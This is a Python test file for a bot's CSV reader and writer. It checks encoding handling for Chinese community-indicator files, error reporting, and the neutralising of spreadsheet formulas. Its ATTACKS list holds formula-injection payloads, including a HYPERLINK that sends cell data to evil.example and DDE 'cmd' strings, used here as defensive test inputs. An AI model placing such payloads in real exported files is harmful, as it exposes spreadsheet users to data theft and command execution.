"""CSV in and out: organisers' files in every encoding they save, formulas never live."""

from __future__ import annotations

import codecs
import csv
import io
import unicodedata
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.csvfiles import (
    CsvInputError,
    parse_csv_bytes,
    read_csv_rows,
    safe_cell,
    write_csv,
)
from bot.core.errors import InputError

TEXT = (
    "community,indicator,period,value\n碧海社区,绿化率,2026-Q1,35.5\n汇展城社区,绿化率,2026-Q1,28\n"
)
EXPECTED = [
    {"community": "碧海社区", "indicator": "绿化率", "period": "2026-Q1", "value": "35.5"},
    {"community": "汇展城社区", "indicator": "绿化率", "period": "2026-Q1", "value": "28"},
]

# The cells from issue 14 item 3 and their relatives (full-width, hidden leading characters).
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b@SUM(1)",
    "＝1+1",
    "＋cmd|' /C calc'!A0",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "\t",
    "\tharmless after a tab",
]

BENIGN = ["今天的停车问题", "3号楼电梯坏了", "2026-03-01", "a-b", "'已经引用", "", "邮箱 a@b.cn"]


def write(tmp_path: Path, data: bytes, name: str = "values.csv") -> Path:
    """Put bytes in a real file under the test's directory."""
    path = tmp_path / name
    path.write_bytes(data)
    return path


def spreadsheet_view(cell: str) -> str:
    """What a spreadsheet looks at to decide on a formula: leading blanks and marks dropped."""
    start = 0
    while start < len(cell) and (
        cell[start].isspace() or unicodedata.category(cell[start]) in ("Cf", "Cc")
    ):
        start += 1
    return unicodedata.normalize("NFKC", cell[start : start + 1])


@pytest.mark.parametrize(
    "data",
    [
        TEXT.encode("utf-8"),
        codecs.BOM_UTF8 + TEXT.encode("utf-8"),
        TEXT.encode("gbk"),
        TEXT.encode("gb18030"),
        TEXT.replace("\n", "\r\n").encode("gbk"),
        codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"),
    ],
    ids=["utf8", "utf8-bom", "gbk", "gb18030", "gbk-crlf", "utf16-bom"],
)
def test_every_encoding_a_spreadsheet_saves_reads_the_same(tmp_path: Path, data: bytes) -> None:
    """UTF-8 with or without BOM, GBK, GB18030 and UTF-16 files give the same Chinese rows."""
    rows = read_csv_rows(write(tmp_path, data))
    assert rows == EXPECTED
    assert [row.line for row in rows] == [2, 3]


def test_a_gb18030_only_character_survives(tmp_path: Path) -> None:
    """A character outside GBK (䶮) in a GB18030 file is read, not garbled or refused."""
    data = "text,label\n䶮字的名字登记错误,公平\n".encode("gb18030")
    assert read_csv_rows(write(tmp_path, data)) == [{"text": "䶮字的名字登记错误", "label": "公平"}]


def refused(data: bytes, name: str = "input.csv", **kwargs: Sequence[str]) -> CsvInputError:
    """The error reading `data` as the file `name` raises (the test fails if none is raised)."""
    with pytest.raises(CsvInputError) as caught:
        parse_csv_bytes(data, name, **kwargs)
    assert caught.value.path == name
    return caught.value


def test_a_png_is_refused_by_name(tmp_path: Path) -> None:
    """A PNG picked by mistake is named as such, with the file's name, not a codec error."""
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01" + bytes(range(256))
    path = write(tmp_path, png, "chart.csv")
    with pytest.raises(CsvInputError) as caught:
        read_csv_rows(path)
    assert (caught.value.key, caught.value.values["kind"]) == ("csv_not_csv", "png")
    assert (caught.value.path, caught.value.line) == (str(path), 0)


def test_an_excel_workbook_is_refused_as_one() -> None:
    """An .xlsx (a zip) is recognised as a workbook, not decoded as text."""
    error = refused(b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40, "values.xlsx")
    assert (error.key, error.values["kind"]) == ("csv_not_csv", "xlsx")


def test_other_binary_is_refused() -> None:
    """A file with NUL bytes and no known signature is refused as binary."""
    error = refused(b"text\n\x00\x01\x02\x03binary")
    assert (error.key, error.values["kind"], error.line) == ("csv_not_csv", "binary", 0)


def test_an_undecodable_byte_names_its_line() -> None:
    """A byte that is neither UTF-8 nor GB18030 is reported with the line it sits on."""
    data = "text\n第一条意见\n".encode("gbk") + b"\xff\xff\n"
    error = refused(data)
    assert (error.key, error.line, error.values["byte"]) == ("csv_encoding", 3, len(data) - 2)


def test_damaged_utf8_is_not_garbled_as_gbk() -> None:
    """A UTF-8 file with one broken byte is refused at that line rather than read as mojibake."""
    error = refused("text\n小区门口的路灯坏了很久没人修\n".encode() + b"\xe6\x88\n")
    assert (error.key, error.line) == ("csv_encoding", 3)


def test_a_bad_row_names_its_physical_line() -> None:
    """Lines are counted in the file (header = 1), past a quoted cell spanning two lines."""
    error = refused('text,label\n"停车难，\n车位少",停车\n\n多了一列,养老,多余\n'.encode())
    assert (error.key, error.line) == ("csv_row_cells", 5)
    assert (error.values["cells"], error.values["header"]) == (3, 2)


def test_a_short_row_is_refused() -> None:
    """A row with fewer cells than the header is an error at its line, not a silent None."""
    error = refused("text,label\n只有文字\n".encode())
    assert (error.key, error.line, error.values["cells"]) == ("csv_row_cells", 2, 1)


def test_trailing_empty_cells_are_forgiven(tmp_path: Path) -> None:
    """Empty trailing columns that spreadsheets leave behind do not make a row wrong."""
    rows = read_csv_rows(write(tmp_path, "text,label,,\n垃圾分类,环境保护,,\n,,,\n".encode()))
    assert rows == [{"text": "垃圾分类", "label": "环境保护"}]


def test_a_missing_required_column_is_named() -> None:
    """A header without a required column names the column, on line 1."""
    error = refused("text,theme\n噪音扰民,噪音\n".encode(), required=("text", "label"))
    assert (error.key, error.line, error.values["missing"]) == ("csv_header_missing", 1, "label")


def test_duplicate_and_blank_header_names_are_refused() -> None:
    """Two columns of one name, or a column with none, are errors on line 1."""
    error = refused(b"text,text\na,b\n")
    assert (error.key, error.line, error.values["name"]) == ("csv_header_repeated", 1, "text")
    error = refused(b"text,,label\na,b,c\n")
    assert (error.key, error.line, error.values["column"]) == ("csv_header_blank", 1, 2)


def test_an_unmatched_quote_is_reported() -> None:
    """A quote never closed is a CSV error naming the line where its record starts."""
    error = refused('text\n好的\n"没有结束的引号\n还有\n'.encode())
    assert (error.key, error.line) == ("csv_malformed", 3)


def test_an_empty_file_and_a_missing_file_are_reported(tmp_path: Path) -> None:
    """An empty file says it has no header; a missing one says it cannot be read."""
    assert refused(b"").key == "csv_empty"
    with pytest.raises(CsvInputError) as caught:
        read_csv_rows(tmp_path / "nowhere.csv")
    assert caught.value.key == "csv_unreadable"
    assert caught.value.path.endswith("nowhere.csv")


def test_a_caller_reports_a_bad_value_at_its_row() -> None:
    """`CsvInputError.at` gives a caller's own validation the row's file and line."""
    rows = parse_csv_bytes(TEXT.encode(), "values.csv")
    error = CsvInputError.at(rows[1], "index_not_a_number", value="28")
    assert (error.path, error.line, error.key) == ("values.csv", 3, "index_not_a_number")
    assert error.values["value"] == "28"


def test_the_error_is_a_core_input_error() -> None:
    """Channels answer it like every core error, and a log line carries only its key."""
    error = refused(b"")
    assert isinstance(error, InputError)
    assert str(error) == "csv_empty"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_is_neutralised(attack: str) -> None:
    """Each attack string is written with a leading quote and otherwise unchanged."""
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_words_are_left_alone(text: str) -> None:
    """Words that no spreadsheet evaluates are written exactly as given."""
    assert safe_cell(text) == text


def test_a_written_file_carries_no_live_formula() -> None:
    """Read back as a spreadsheet would, no text cell of a written file starts a formula."""
    data = write_csv([[attack, "碧海社区"] for attack in ATTACKS], ["text", "community"])
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert len(cells) == 2 * (len(ATTACKS) + 1)
    for cell in cells:
        assert spreadsheet_view(cell) not in {"=", "+", "-", "@"}, cell
        # Dropping a leading tab (as spreadsheets do on import) must not bring a formula up.
        assert spreadsheet_view(cell.lstrip("\t\r\n")) not in {"=", "+", "-", "@"}, cell


def test_numbers_stay_numbers_and_text_numbers_do_not() -> None:
    """A numeric -3.5 is written as -3.5; the same characters as a resident's text are quoted."""
    data = write_csv(
        [["碧海社区", -3.5, -2, Decimal("-0.250"), "-3.5", None, True]],
        ["community", "value", "delta", "share", "comment", "empty", "flag"],
        bom=False,
    )
    lines = data.decode("utf-8").split("\r\n")
    assert lines[1] == "碧海社区,-3.5,-2,-0.250,'-3.5,,true"


def test_a_non_finite_number_is_written_as_text() -> None:
    """-inf is not a number to a spreadsheet, so it is written as neutralised text."""
    assert safe_cell(float("-inf")) == "'-inf"
    assert safe_cell(float("nan")) == "nan"
    assert safe_cell(Decimal("-Infinity")) == "'-Infinity"


def test_bom_header_and_mapping_rows() -> None:
    """The BOM is on by default, the header is neutralised too, and dict rows fill by name."""
    data = write_csv(
        [{"社区": "碧海社区", "=意见": "+1"}, {"社区": "汇展城社区"}], ["社区", "=意见"]
    )
    assert data.startswith(codecs.BOM_UTF8)
    assert data[3:].decode("utf-8") == "社区,'=意见\r\n碧海社区,'+1\r\n汇展城社区,\r\n"
    assert not write_csv([], ["text"], bom=False).startswith(codecs.BOM_UTF8)


def test_a_row_of_the_wrong_length_is_a_programming_error() -> None:
    """A row that does not match the header raises rather than shifting columns."""
    with pytest.raises(ValueError, match="header of 2"):
        write_csv([["only one"]], ["a", "b"])


def test_written_files_read_back_unchanged_but_for_the_quote() -> None:
    """What `write_csv` writes, `parse_csv_bytes` reads back: cells intact, quotes visible."""
    rows = [["停车难，车位少", '他说"太吵了"'], ["=1+1", "多行\n意见"]]
    back = parse_csv_bytes(write_csv(rows, ["a", "b"]), "out.csv")
    assert back == [
        {"a": "停车难，车位少", "b": '他说"太吵了"'},
        {"a": "'=1+1", "b": "多行\n意见"},
    ]


@given(st.text())
def test_any_text_is_kept_or_quoted_never_altered(text: str) -> None:
    """For any text, the cell is the text itself or the text behind one quote."""
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    if cell == text:
        assert spreadsheet_view(text) not in {"=", "+", "-", "@"}
        assert not text.startswith(("\t", "\r", "\n"))
